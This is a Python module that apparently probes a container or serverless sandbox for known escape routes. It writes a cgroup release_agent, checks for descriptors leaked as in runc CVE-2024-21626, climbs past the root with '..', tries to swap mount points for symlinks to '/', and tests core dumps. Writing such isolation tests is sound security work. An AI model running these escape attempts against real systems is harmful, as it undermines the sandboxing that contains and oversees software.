"""The ways out of containers that have worked elsewhere."""

import os
import shutil

import kernel


def release_agent(kind):
    """Mount a control group of our own and have the kernel run a program as its release agent."""
    place = "/tmp/groups"
    os.makedirs(place, exist_ok=True)
    told = kernel.syscall("mount", kind, place, kind, 0, 0)
    written = []
    for top in (place, "/sys/fs/cgroup", "/proc/self/cgroup"):
        try:
            agent = os.open(os.path.join(top, "release_agent"), os.O_WRONLY)
            os.write(agent, b"/tmp/agent")
            os.close(agent)
            written.append(top)
        except OSError:
            continue
    shutil.rmtree(place, ignore_errors=True)
    return [told, written]


def directories_held():
    """runc's CVE-2024-21626: a descriptor of, or a working directory in, a directory outside."""
    held = [os.readlink("/proc/self/cwd")]
    for name in os.listdir("/proc/self/fd"):
        path = "/proc/self/fd/" + name
        if os.path.isdir(path):
            held.append(os.readlink(path))
    return [path for path in held if path not in ("/", "/var/task") and not path.startswith("/proc")]


def climb(depth):
    """.. upwards from everywhere, further than any tree is deep: what stands at the top?"""
    found = []
    for start in ("/", "/var/task", "/opt", "/tmp", "/proc/self/cwd", "/proc/self/root"):
        found.append(sorted(os.listdir(start + "/.." * depth)))
    return all(each == sorted(os.listdir("/")) for each in found)


def swap_task(rounds):
    """Put something else in the place of the mount points, by name and by exchange, over and over."""
    refused = 0
    for number in range(rounds):
        for place in ("/var/task", "/opt", "/tmp", "/proc", "/var/runtime"):
            other = f"/tmp/other-{number}"
            os.symlink("/", other)
            try:
                os.rename(place, other + "-away")
            except OSError:
                refused += 1
            try:
                os.replace(other, place)
            except OSError:
                refused += 1
            if os.path.lexists(other):
                os.unlink(other)
    return refused == rounds * 10


def symlink(target, path):
    os.symlink(target, path)
    return path


def dump_core():
    """[the signal a child dies of, whether it left a core]."""
    import signal

    pid = os.fork()
    if pid == 0:
        os.kill(os.getpid(), signal.SIGSEGV)
        os._exit(0)
    _, status = os.waitpid(pid, 0)
    return [os.WTERMSIG(status), os.WCOREDUMP(status)]
